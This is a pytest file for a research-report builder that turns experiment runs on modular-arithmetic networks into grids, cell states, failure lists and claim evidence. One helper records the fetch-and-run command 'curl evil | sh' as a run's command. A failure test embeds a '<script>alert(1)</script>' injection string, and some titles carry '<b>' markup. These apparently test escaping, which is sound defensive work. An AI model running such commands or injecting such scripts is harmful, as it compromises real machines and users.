"""The data of a report: counts, grids, cells, models and claims."""

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from lab_records import (
    EXP1,
    EXP2,
    PAPER,
    PROVENANCE,
    configs_of,
    failed,
    measured,
    plausible,
    records_of,
    run_of,
    studies_of,
    with_fields,
)
from prime_models import modulus
from primefourier.lab import Axis, LearnedTable, Run, Study
from primefourier.lab.config import ModelConfig
from primefourier.lab.record import Record
from primefourier_paper import cells_of
from small_models import small_config, small_study

TITLES = ["Experiment 1", "Control (PFE-Shuffled)", "Experiment 2"]
SIZES, RANGES = [4, 6, 8, 10, 12, 14, 16], [100, 500, 1000, 2000, 4000]
MODULI = [15, 21, 33, 35, 55, 77, 105, 165, 231, 385]
FOUR = configs_of("exp1", sizes=(4,), ranges=(100,))
"""One cell: four models."""
SEVERAL_CELLS = ("E1.6", "E2.4", "T.1")
"""Claims whose evidence is not of one cell."""
NEED_MORE = ("S.1", "S.6", "S.7")
"""Statements that need several seeds, other ablations, and networks without the primes of N."""


def page_of(
    planned: Sequence[ModelConfig], records: Sequence[Record] = (), folder: Path = Path("mine")
) -> dict[str, Any]:
    return data_of(studies_of(planned), records, folder)


def data_of(
    studies: Sequence[Study], records: Sequence[Record] = (), folder: Path = Path("mine")
) -> dict[str, Any]:
    data = Run(studies, records, ["curl evil | sh"], folder).page_data()
    assert json.loads(json.dumps(data, allow_nan=False)) == data
    return data


def cell_of(planned: list[ModelConfig], records: Sequence[Record]) -> dict[str, Any]:
    """Return the data of the one cell that some models make."""
    cells = [c for grid in page_of(planned, records)["grids"] for c in grid["cells"]]
    (cell,) = [cell for cell in cells if cell["state"] != "missing"]
    found: dict[str, Any] = cell
    return found


def states(data: dict[str, Any]) -> list[set[str]]:
    return [{cell["state"] for cell in grid["cells"]} for grid in data["grids"]]


@pytest.fixture(scope="module")
def paper() -> dict[str, Any]:
    """The data of all models of the paper, with plausible records."""
    return page_of(PAPER, plausible(PAPER))


def test_grids_are_complete_before_anything_is_measured(paper: dict[str, Any]) -> None:
    data = page_of(PAPER)
    assert data["counts"] == {"planned": 750, "measured": 0, "failed": 0, "waiting": 750}
    assert states(data) == [{"waiting"}] * 3
    assert (data["finished"], data["seconds"]) == (None, 0)
    assert (data["commits"], data["versions"], data["machines"]) == ([], {}, [])
    for grid, full, rows in zip(data["grids"], paper["grids"], (SIZES, SIZES, MODULI), strict=True):
        assert (grid["rows"], grid["columns"]) == (rows, RANGES)
        places = [(cell["row"], cell["column"]) for cell in grid["cells"]]
        assert places == list(product(rows, RANGES))
        for cell, same in zip(grid["cells"], full["cells"], strict=True):
            assert (cell["degenerate"], cell["floor"]) == (same["degenerate"], same["floor"])
    crossed = [
        (cell["row"], cell["column"]) for cell in data["grids"][2]["cells"] if cell["degenerate"]
    ]
    assert crossed == [(231, 100), (385, 100)]


def test_each_grid_names_its_axes(paper: dict[str, Any]) -> None:
    names = ("title", "row_name", "row_label", "column_label", "threshold", "model_name")
    rows, columns = ("|P|", "number of primes |P|"), "input range r"
    assert [tuple(grid[name] for name in names) for grid in paper["grids"]] == [
        (TITLES[0], *rows, columns, 0.85, "p"),
        (TITLES[1], *rows, columns, 0.85, "p"),
        (TITLES[2], "N", "modulus N", columns, 0.70, ""),
    ]
    assert all(grid["expectation"] and grid["beyond"] is None for grid in paper["grids"])


def test_a_cell_has_the_numbers_of_the_run() -> None:
    configs = configs_of("exp1", sizes=(4,), ranges=(100,), seeds=(3, 1, 2))
    records = [r for r in plausible(configs) if (r.config.seed, modulus(r.config)) != (3, 7)]
    (cell,) = cells_of(run_of(configs, records))["exp1"]
    data = cell_of(configs, records)
    assert (data["row"], data["column"], data["state"]) == (4, 100, "measured")
    assert (data["beyond"], data["seeds"]) == ([], [1, 2])
    for name, interval in (
        ("relevant", cell.relevant),
        ("other", cell.other),
        ("accuracy", cell.accuracy),
    ):
        assert interval is not None
        assert data[name] == {"mean": interval.mean, "low": interval.low, "high": interval.high}
    assert cell.ratio is not None
    assert data["ratio"] == {"value": cell.ratio.value, "bound": True, "text": str(cell.ratio)}
    assert (data["converged"], data["floor"]) == (cell.converged, cell.noise_floor)
    assert data["models"] == {"planned": 12, "measured": 11, "failed": 0}
    assert len(data["runs"]) == 11, "models of incomplete seeds are shown, too"


def test_a_model_is_given_in_counts() -> None:
    (config,) = configs_of("exp2", moduli=(15,), ranges=(500,), seeds=(7,))
    record = measured(config, [0.5, 0.25, -0.125, 0, 0, 0, 0, 0], accuracy=0.75, best=0.875)
    (run,) = cell_of([config], [record])["runs"]
    assert run["lost"] == [8000, 4000, 0, 0, 0, 0, 0, 0]
    assert run["gained"] == [0, 0, 2000, 0, 0, 0, 0, 0]
    assert run["p_values"] == pytest.approx(record.measured.p_values, rel=0.06)
    assert (run["name"], run["seed"], run["test"], run["correct"]) == ("15", 7, 16000, 12000)
    assert run["rows"] == ["3", "5", "7", "11", "13", "17", "19", "23"]
    assert run["relevant"] == ["3", "5"]
    assert (len(run["curve"]), max(run["curve"]), run["curve"][-1]) == (40, 14000, 12000)
    assert run["seconds"] == 1.5


@pytest.mark.parametrize(
    ("done", "wrong", "state"),
    [(0, 0, "waiting"), (0, 1, "failed"), (3, 0, "partial"), (3, 1, "partial"), (4, 0, "measured")],
)
def test_the_state_of_a_cell(done: int, wrong: int, state: str) -> None:
    records = [*plausible(FOUR[:done]), *map(failed, FOUR[done : done + wrong])]
    data = cell_of(FOUR, records)
    assert data["state"] == state
    assert data["models"] == {"planned": 4, "measured": done, "failed": wrong}
    assert len(data["runs"]) == done
    if state != "measured":
        shown = ("relevant", "other", "accuracy", "ratio", "converged")
        assert {data[name] for name in shown} == {None}
        assert data["seeds"] == []
    assert data["floor"] == pytest.approx(0.0316, abs=1e-4), "known before anything is measured"


def test_failed_models_are_counted_and_listed() -> None:
    error = "Traceback\n<script>alert(1)</script> \x1b[31m \u202e \udc80 \x00 $data \u2028"
    records = [*plausible(EXP1[1:4]), failed(EXP1[0], error)]
    data = page_of(EXP1[:5], records)
    assert data["counts"] == {"planned": 5, "measured": 3, "failed": 1, "waiting": 1}
    model = "a+b mod 3 r=100 |P|=4 seed=42"
    assert data["failures"] == [{"model": model, "error": records[-1].error}]


# Studies that are not the paper's.


def test_a_study_of_ones_own_has_its_title_and_axes_and_no_claims() -> None:
    configs = [small_config(modulus=n, input_range=r) for n in (3, 15) for r in (30, 50)]
    study = replace(small_study(*configs), title="<b>Mine")
    data = data_of([study], [*plausible(configs[:3]), failed(configs[3])])
    (grid,) = data["grids"]
    assert (data["title"], grid["title"], grid["expectation"]) == ("<b>Mine", "<b>Mine", "")
    assert (grid["row_name"], grid["rows"]) == ("modulus", [3, 15])
    assert (grid["column_name"], grid["columns"]) == ("input range", [30, 50])
    assert (grid["model_name"], grid["threshold"]) == ("", 0.85)
    assert [cell["state"] for cell in grid["cells"]] == ["measured"] * 3 + ["failed"]
    (run,) = grid["cells"][0]["runs"]
    assert run["name"] == configs[0].describe()
    assert (run["rows"], run["relevant"]) == (["3", "5", "7"], ["3"])
    assert data["counts"] == {"planned": 4, "measured": 3, "failed": 1, "waiting": 0}
    assert data["claims"] == []


def test_models_that_share_a_cell_are_told_apart_by_their_description() -> None:
    configs = [small_config(epochs=epochs) for epochs in (1, 2)]
    study = Study("mine", configs, axes=[Axis("task.modulus")])
    (grid,) = data_of([study], plausible(configs))["grids"]
    (cell,) = grid["cells"]
    assert (grid["model_name"], grid["columns"], cell["column"]) == ("model", [""], "")
    assert [run["name"] for run in cell["runs"]] == [config.describe() for config in configs]


def test_a_cell_without_predicted_rows_has_other_drops_and_accuracy_beyond() -> None:
    table = LearnedTable(size=30, width=4, row_count=2)
    config = replace(small_config(beyond=(100,), beyond_samples=4), embedding=table)
    record = measured(replace(small_config(), embedding=table), [0.5, 0.25])
    counts = replace(record.measured, beyond={"100": (3, 4)})
    (grid,) = data_of([small_study(config)], [replace(record, config=config, measurement=counts)])[
        "grids"
    ]
    (cell,) = grid["cells"]
    assert (cell["relevant"], cell["ratio"]) == (None, None)
    assert cell["beyond"] == [[" below 100", 0.75]]
    assert cell["other"]["mean"] == pytest.approx(0.375, abs=1 / 180)


def test_circumstances_are_listed_once_each() -> None:
    records = plausible(EXP2[:3])
    other = replace(
        PROVENANCE,
        finished="2027-01-01T00:00:00+00:00",
        seconds=2.25,
        commit=None,
        machine="another",
        versions={"python": "3.12", "torch": "2.13.0"},
    )
    data = page_of(EXP2[:3], [replace(records[0], provenance=other), *records[1:]])
    assert (data["finished"], data["seconds"]) == ("2027-01-01T00:00:00+00:00", 5.25)
    assert (data["commits"], data["machines"]) == (["abc"], ["another", "a machine"])
    assert data["versions"] == {"python": ["3.12", "3.11"], "torch": ["2.13.0"]}


def with_tests(record: Record, accuracy: Mapping[str, float]) -> Record:
    """Return a record as that of a network with tests beyond the range, of 100 examples each."""
    counts = {end: (round(100 * share), 100) for end, share in accuracy.items()}
    config = with_fields(record.config, beyond=tuple(map(int, counts)), beyond_samples=100)
    return replace(record, config=config, measurement=replace(record.measured, beyond=counts))


def test_networks_are_counted_that_are_right_in_range_and_beyond() -> None:
    """The third is wrong in range, and no sum of the last wraps around."""
    near, far = "200", str(10**18)
    records = records_of(configs_of("exp2", moduli=(15, 21, 33, 231), ranges=(100,)))
    records[2:3] = records_of([records[2].config], accuracy=0.9)
    tests = [(1.0, 1.0), (0.99, 0.5), (1.0, 1.0), (0.0, 0.0)]
    tested = [
        with_tests(record, {near: a, far: b}) for record, (a, b) in zip(records, tests, strict=True)
    ]
    counted = {"tested": 3, "right": 2, "next": 2, "far": "10^18", "all": 1}
    study = replace(small_study(*(r.config for r in tested)), name="mine")
    (grid,) = data_of([study], tested)["grids"]
    assert grid["beyond"] == counted
    paper = Run(studies_of([r.config for r in records]), records, more=tested).page_data()
    assert paper["grids"][0]["beyond"] == counted, "models of other runs count, too"
    assert paper["more"] == 4


def test_test_sets_with_other_names_are_no_next_integers() -> None:
    config = small_config(beyond=(100,), beyond_samples=4)
    record = replace(records_of([small_config()])[0], config=config)
    record = replace(record, measurement=replace(record.measured, beyond={"primes only": (4, 4)}))
    (grid,) = data_of([small_study(config)], [record])["grids"]
    assert grid["beyond"] == {"tested": 1, "right": 1, "next": None, "far": None, "all": 1}
    assert grid["cells"][0]["beyond"] == [[", primes only", 1.0]]


def test_a_run_is_named_by_the_last_part_of_its_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "<b>mine"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for given in (Path(), Path("../<b>mine"), folder):
        assert page_of([], folder=given)["name"] == "<b>mine"
    assert page_of([], folder=Path("/"))["name"] == "/"


def test_every_piece_of_evidence_points_to_the_cell_it_names(paper: dict[str, Any]) -> None:
    for claim in paper["claims"]:
        assert claim["evidence"] or claim["claim"] in NEED_MORE
        for evidence in claim["evidence"]:
            if claim["claim"] in SEVERAL_CELLS:
                assert evidence["cell"] is None
                continue
            grid, row, r = evidence["cell"]
            letter = "N" if grid == 2 else "|P|"
            assert evidence["configuration"] == f"{letter} = {row}, r = {r}"
            begins = {0: ("E1", "T", "S"), 1: ("C", "S"), 2: ("E2", "T", "S")}[grid]
            assert claim["claim"].startswith(begins)
